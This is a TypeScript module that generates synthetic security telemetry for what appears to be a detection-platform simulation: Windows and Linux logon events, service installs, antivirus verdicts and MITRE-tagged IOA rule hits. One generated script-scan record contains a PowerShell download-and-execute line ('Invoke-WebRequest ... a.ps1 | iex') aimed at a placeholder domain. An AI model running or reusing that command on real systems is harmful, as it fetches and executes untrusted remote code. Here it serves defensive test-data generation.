/** Events of the OS log, of script scans and of the endpoint's antivirus, and IOA hits (contract sheet kata, section 7.2). */
import { plots } from '../story.ts';
import type { KataObject } from './types.ts';
import { fullName, imageKeys, mischief, programOf, type Scene } from './scene.ts';

const value = (text: string): KataObject => ({ value: text });
const pick = <T>(list: readonly T[], share: number): T => list[Math.floor(share * list.length)]!;

export function logged(scene: Scene): KataObject {
  const { incident } = scene;
  if (incident.host.os !== 'Windows') {
    return {
      LinuxEventType: 'auth',
      LogonRemoteHost: incident.remote.ip,
      EffectiveUserName: incident.user.name,
    };
  }
  const lateral = incident.plot.key === 'lateral';
  return {
    System: {
      EventID: value(lateral ? '7045' : '4624'),
      Channel: value(lateral ? 'System' : 'Security'),
      EventRecordID: value(String(incident.index)),
      Provider: { Name: value(lateral ? 'Service Control Manager' : 'Microsoft-Windows-Security-Auditing') },
    },
    EventData: {
      Data: {
        TargetDomainName: value('CORP'),
        ObjectName: lateral ? value(incident.file.name) : undefined,
        PackageName: lateral ? undefined : value('NTLM V2'),
        ProcessName: value(fullName(programOf(scene, 'service'))),
      },
    },
  };
}

export const scriptScanned = (scene: Scene): KataObject => ({
  ...imageKeys(scene, programOf(scene, 'interpreter')),
  ObjectContent: `# ${scene.incident.plot.title}\nInvoke-WebRequest https://${scene.incident.remote.domain}/a.ps1 | iex\n`,
  ObjectContentType: 1,
});

const platforms = { Windows: 'Win32', Linux: 'Linux', macOS: 'OSX' };

/** What a detection and its processing result have in common: by it, a reader joins the two. */
function verdict(scene: Scene): KataObject {
  const { incident } = scene;
  const file = mischief(scene);
  return {
    VerdictName: `HEUR:Trojan.${platforms[incident.host.os]}.${incident.plot.key}.gen`,
    RecordId: 1_000 + incident.file.size,
    DetectedName: fullName(file),
    DetectedObjectType: 'File',
    DetectedMd5: file.md5,
    DetectedSha256: file.sha256,
  };
}

export const threatFound = (scene: Scene): KataObject => ({
  ...verdict(scene),
  ProcessingMode: scene.incident.chance('kata-mode') < 0.7 ? 'OnAccess' : 'OnDemand',
});

const statuses = ['Disinfected', 'Deleted', 'Quarantined', 'NotProcessed', 'Unknown'];

export function threatProcessed(scene: Scene): KataObject {
  const status = pick(statuses, scene.incident.chance('kata-status'));
  const untreated = status === 'NotProcessed' || status === 'Unknown';
  return {
    ...verdict(scene),
    ThreatStatus: status,
    UntreatedReason: untreated
      ? pick(['NotFound', 'Locked', 'Cancelled'], scene.incident.chance('kata-reason'))
      : 'None',
  };
}

const steps = ['Low', 'Medium', 'High'];

/**
 * IOA rules that fired. Two in five grave events have a second one, whose name starts with a technique number, as the
 * noisy ones do (sheet 9).
 */
export function ioa({ incident }: Scene): KataObject {
  const { plot } = incident;
  const second = incident.chance('kata-second-rule') < 0.4;
  return {
    Severity: steps[plot.severity <= 2 ? 0 : plot.severity - 2] ?? 'High',
    Confidence: pick(steps, incident.chance('kata-confidence')),
    Rules: [
      {
        Id: String(1_001 + plots.indexOf(plot)),
        Name: `${plot.key}_on_endpoint`,
        Techniques: [plot.technique],
        Tactics: [plot.tactic],
      },
      ...(second
        ? [
            {
              Id: '2059',
              Name: 'T1059x_interpreter_started',
              Techniques: ['T1059', 'T1059.001'],
              Tactics: ['TA0002'],
            },
          ]
        : []),
    ],
  };
}
